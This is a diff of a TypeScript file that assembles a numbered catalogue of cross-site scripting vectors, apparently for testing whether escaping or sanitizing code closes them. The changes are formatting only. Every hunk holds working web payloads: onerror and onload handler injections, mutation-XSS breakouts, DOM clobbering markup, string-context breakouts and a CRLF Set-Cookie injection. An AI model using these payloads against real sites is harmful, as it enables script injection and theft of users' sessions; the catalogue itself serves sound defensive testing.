@@ -36,7 +36,8 @@ const cssEscaped = (text: string) => references(text, (code) => `\\${code.toStri
 const percent = (text: string) => references(text, (code) => `%${code.toString(16).padStart(2, '0')}`)
 
 /** Events that HTML, SVG, media and older browsers know as attributes; the first ones need no visitor. */
-const EVENTS = `error load begin end repeat loadstart toggle focus focusin animationstart animationend animationiteration
+const EVENTS =
+  `error load begin end repeat loadstart toggle focus focusin animationstart animationend animationiteration
   transitionrun transitionstart transitionend webkitanimationstart webkittransitionend canplay canplaythrough loadeddata
   loadedmetadata durationchange timeupdate progress play playing pause ended ratechange seeked volumechange waiting stalled
   emptied suspend scroll scrollend scrollsnapchange resize hashchange popstate pageshow pagehide message unload beforeunload
@@ -45,8 +46,8 @@ const EVENTS = `error load begin end repeat loadstart toggle focus focusin anima
   pointerrawupdate gotpointercapture touchstart drag dragstart dragover drop keydown keypress keyup input beforeinput
   change select selectstart submit formdata reset invalid search copy cut paste beforetoggle close cancel cuechange
   fullscreenchange afterprint storage command propertychange readystatechange filterchange start bounce finish`.split(
-  /\s+/,
-)
+    /\s+/,
+  )
 
 const BEARERS = [
   'img src=x',
@@ -242,7 +243,14 @@ const ADDRESSED: Draft[] = PLACES.map((place, index) => (fire) => {
   // The plain spelling and one of the others, so that each place and each spelling meets some of the other.
   const [plain, other] = [SPELLINGS[0] ?? '', SPELLINGS[(index % (SPELLINGS.length - 1)) + 1] ?? '']
   const spelled = write(other, fire).replaceAll('"', '&quot;')
-  return [write(plain, fire), spelled].map((address) => write(place.replaceAll('ADDRESS', () => address), fire)).join('')
+  return [write(plain, fire), spelled]
+    .map((address) =>
+      write(
+        place.replaceAll('ADDRESS', () => address),
+        fire,
+      ),
+    )
+    .join('')
 })
 
 /** Elements that load or hold another document, or change this one. */
@@ -337,8 +345,8 @@ const MUTATIONS: Draft[] = [
   '<textarea>x</textarea><!--</textarea><img src=x onerror=FIRE>-->',
   '<title><img title="</title><img src=x onerror=FIRE>"></title>',
   '<xmp><p title="</xmp><img src=x onerror=FIRE>"></xmp>',
-  '<xmp><svg><b><style><b title=\'</style><img src=x onerror=FIRE>\'></xmp>',
-  '<noembed><svg><b><style><b title=\'</style><img src=x onerror=FIRE>\'></noembed>',
+  "<xmp><svg><b><style><b title='</style><img src=x onerror=FIRE>'></xmp>",
+  "<noembed><svg><b><style><b title='</style><img src=x onerror=FIRE>'></noembed>",
   '<noframes><p title="</noframes><img src=x onerror=FIRE>"></noframes>',
   '<iframe><p title="</iframe><img src=x onerror=FIRE>"></iframe>',
   '<listing>&lt;img onerror="FIRE" src=x&gt;<t t></listing>',
@@ -392,7 +400,7 @@ const MUTATIONS: Draft[] = [
   '<! foo="><img src=x onerror=FIRE>">',
   '</ foo="><img src=x onerror=FIRE>">',
   '<% foo><x foo="%><img src=x onerror=FIRE>"></x>',
-  '<x foo=\'><img src=x onerror=FIRE>\'></x>',
+  "<x foo='><img src=x onerror=FIRE>'></x>",
   "<x xmlns='\"><iframe onload=FIRE//'></x>",
   '<a href=/x#`y></a><img alt="`><img src=x onerror=FIRE></a>">',
   '<img alt="<x" title="/><img src=x onerror=FIRE>">',
@@ -420,7 +428,15 @@ const MUTATIONS: Draft[] = [
 const CLOBBERING: Draft[] = [
   ...[
     ...['getElementById', 'createElement', 'querySelector', 'querySelectorAll', 'body', 'head', 'cookie', 'location'],
-    ...['documentElement', 'addEventListener', 'implementation', 'currentScript', 'activeElement', 'adoptNode', 'forms'],
+    ...[
+      'documentElement',
+      'addEventListener',
+      'implementation',
+      'currentScript',
+      'activeElement',
+      'adoptNode',
+      'forms',
+    ],
     ...['defaultView', 'readyState', 'createTreeWalker', 'firstElementChild', 'domain', 'nodeType', 'nextSibling'],
   ].map((name): Draft => `<img src=x name=${name} alt="FIRE">`),
   '<form name=createElement id=getElementById><input name=id></form>',
@@ -501,14 +517,14 @@ const TEXTS: Draft[] = [
   '</template><svg onload=FIRE>',
   '</option></select><svg onload=FIRE>',
   '</iframe></object></svg></math><svg onload=FIRE>',
-  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"`/+/onmouseover=1/+/[*/[]/+FIRE//\'>',
+  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+FIRE//'>",
   '";FIRE;//',
   "';FIRE;//",
   '\\";FIRE;//',
   "\\');FIRE;//",
   '`;FIRE;//',
-  '${FIRE}',
-  '`${FIRE}`',
+  '$' + '{FIRE}',
+  '`$' + '{FIRE}`',
   '"+FIRE+"',
   '"}];FIRE;[{"x":"',
   '\u2028FIRE//',
@@ -537,7 +553,7 @@ const TEXTS: Draft[] = [
   'prototype.toString',
   'hasOwnProperty',
   '__defineGetter__',
-  '$& $1 $` $\' $$ <img src=x onerror=FIRE>',
+  "$& $1 $` $' $$ <img src=x onerror=FIRE>",
   '%s %d %c %o <img src=x onerror=FIRE>',
   '\r\nSet-Cookie: FIRE=1\r\n\r\n<img src=x onerror=FIRE>',
   '$RC("x","FIRE")<!--$--><!--/$--><!--$?--><template id="B:0"></template>',
@@ -563,9 +579,9 @@ const KINDS: readonly (readonly [Kind, readonly Draft[]])[] = [
 ]
 
 /** All of them. */
-export const VECTORS: readonly Vector[] = KINDS.flatMap(([kind, drafts]) => drafts.map((draft) => ({ kind, draft }))).map(
-  ({ kind, draft }, number) => {
-    const text = write(draft, `fired(${number})`)
-    return { number, kind, text, isClosed: isClosed(text) }
-  },
-)
+export const VECTORS: readonly Vector[] = KINDS.flatMap(([kind, drafts]) =>
+  drafts.map((draft) => ({ kind, draft })),
+).map(({ kind, draft }, number) => {
+  const text = write(draft, `fired(${number})`)
+  return { number, kind, text, isClosed: isClosed(text) }
+})
